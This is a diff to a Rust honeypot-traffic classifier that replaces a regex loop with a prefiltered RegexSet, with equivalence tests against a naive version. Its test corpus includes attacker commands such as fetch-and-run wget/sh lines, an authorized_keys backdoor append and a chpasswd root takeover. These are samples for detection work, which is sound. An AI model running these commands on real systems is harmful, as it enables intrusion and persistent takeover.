@@ -14,22 +14,21 @@
 //! indicator at all and is therefore not reproducible; its traffic would
 //! land in one of the generic categories.
 
-use sregex::Regex;
+use sregex::RegexSet;
 
 /// Label of the fallback category.
 pub const UNKNOWN_LABEL: &str = "unknown";
 
-/// One classification rule.
-pub struct Rule {
-    /// Category label (matches the paper's figure legends).
-    pub label: &'static str,
-    /// Compiled Table 1 pattern.
-    pub regex: Regex,
-}
-
 /// The ordered rule set.
+///
+/// Internally a [`RegexSet`]: one Aho-Corasick pass over the command text
+/// computes which rules' required literals are present, and only those
+/// candidate rules (plus the handful with no extractable literal) run the
+/// backtracking engine — in precedence order, so first-match semantics are
+/// unchanged. See [`Classifier::classify_naive`] for the reference loop.
 pub struct Classifier {
-    rules: Vec<Rule>,
+    labels: Vec<&'static str>,
+    set: RegexSet,
 }
 
 /// `(label, pattern)` pairs in precedence order. 58 entries.
@@ -133,41 +132,66 @@ pub const TABLE1_RULES: &[(&str, &str)] = &[
 impl Classifier {
     /// Compiles the full Table 1 rule set.
     pub fn table1() -> Self {
-        let rules = TABLE1_RULES
-            .iter()
-            .map(|(label, pat)| Rule {
-                label,
-                regex: Regex::new(pat)
-                    .unwrap_or_else(|e| panic!("rule {label} failed to compile: {e}")),
-            })
-            .collect();
-        Self { rules }
+        let labels: Vec<&'static str> = TABLE1_RULES.iter().map(|(label, _)| *label).collect();
+        let set = RegexSet::new(TABLE1_RULES.iter().map(|(_, pat)| *pat))
+            .unwrap_or_else(|e| panic!("Table 1 rule failed to compile: {e}"));
+        Self { labels, set }
     }
 
     /// Number of regex categories (58; `unknown` is implicit).
     pub fn len(&self) -> usize {
-        self.rules.len()
+        self.labels.len()
     }
 
     /// Whether the rule set is empty (never, for Table 1).
     pub fn is_empty(&self) -> bool {
-        self.rules.is_empty()
+        self.labels.is_empty()
     }
 
     /// All category labels in precedence order (without `unknown`).
     pub fn labels(&self) -> impl Iterator<Item = &'static str> + '_ {
-        self.rules.iter().map(|r| r.label)
+        self.labels.iter().copied()
     }
 
     /// Classifies a session's command text: the first matching rule wins,
-    /// `unknown` otherwise.
+    /// `unknown` otherwise. Rules whose required literals are absent from
+    /// the text are skipped without running their regex.
     pub fn classify(&self, command_text: &str) -> &'static str {
-        for rule in &self.rules {
-            if rule.regex.is_match(command_text) {
-                return rule.label;
-            }
+        match self.set.first_match(command_text) {
+            Some(i) => self.labels[i],
+            None => UNKNOWN_LABEL,
         }
-        UNKNOWN_LABEL
+    }
+
+    /// The pre-prefilter reference implementation: every rule's regex runs
+    /// in precedence order until one matches. Kept as the equivalence
+    /// oracle for tests and the baseline for the `classify` bench;
+    /// [`Classifier::classify`] must agree on every input.
+    pub fn classify_naive(&self, command_text: &str) -> &'static str {
+        self.set
+            .regexes()
+            .iter()
+            .position(|re| re.is_match(command_text))
+            .map_or(UNKNOWN_LABEL, |i| self.labels[i])
+    }
+
+    /// Rules the prefilter can skip (at least one required literal).
+    pub fn prefiltered_rules(&self) -> usize {
+        self.set.prefiltered_count()
+    }
+
+    /// Rules on the always-check fallback list.
+    pub fn fallback_rules(&self) -> usize {
+        self.set.fallback_count()
+    }
+
+    /// Total step-budget exhaustions across all rules since construction
+    /// (see [`sregex::Regex::budget_exhaustions`]): the number of searches
+    /// that hit the backtracking bound and therefore answered "no match"
+    /// for some start positions. Non-zero values mean pathological command
+    /// texts may have fallen through to later rules or `unknown`.
+    pub fn budget_exhaustions(&self) -> u64 {
+        self.set.budget_exhaustions()
     }
 }
 
@@ -341,6 +365,60 @@ mod tests {
             cl.classify("wget http://h/sora.sh; sh sora.sh"),
             "sora_attack"
         );
+    }
+
+    #[test]
+    fn prefilter_covers_most_rules() {
+        let cl = c();
+        assert_eq!(cl.prefiltered_rules() + cl.fallback_rules(), 58);
+        // Nearly every Table 1 rule carries a required literal; only
+        // top-level alternations like `bbox_unlabelled` cannot.
+        assert!(
+            cl.prefiltered_rules() >= 50,
+            "prefiltered {} / fallback {}",
+            cl.prefiltered_rules(),
+            cl.fallback_rules()
+        );
+        assert!(cl.fallback_rules() >= 1);
+    }
+
+    #[test]
+    fn prefiltered_agrees_with_naive_on_representative_corpus() {
+        let cl = c();
+        let corpus = [
+            "echo mdrfckr >> ~/.ssh/authorized_keys",
+            "uname -s -v -n -r -m",
+            "uname -a; nproc",
+            "/bin/busybox cat /proc/self/exe || cat /proc/self/exe",
+            "/bin/busybox wget http://1.2.3.4/g.sh; sh g.sh",
+            "busybox ECCHI",
+            "cd /tmp; curl -O http://h/x; echo a >> x; ftpget h x x; wget http://h/x",
+            "echo root:Ab0Cd1Ef2Gh3Jk4X|chpasswd",
+            "echo ok",
+            r#"echo -e "\x6F\x6B""#,
+            "systemctl status sshd",
+            "ls -la /",
+            "",
+            "curl https://a/ -s -X GET --max-redirs 5 --cookie 'x'",
+            "wget -4 http://h/d.sh || dget -4 http://h/d.sh",
+            "echo $SHELL; dd if=/proc/self/exe bs=22 count=1",
+        ];
+        for text in corpus {
+            assert_eq!(
+                cl.classify(text),
+                cl.classify_naive(text),
+                "divergence on {text:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn budget_exhaustions_start_at_zero_and_stay_zero_on_normal_input() {
+        let cl = c();
+        assert_eq!(cl.budget_exhaustions(), 0);
+        cl.classify("uname -a");
+        cl.classify("wget http://h/x.sh; sh x.sh");
+        assert_eq!(cl.budget_exhaustions(), 0);
     }
 
     #[test]
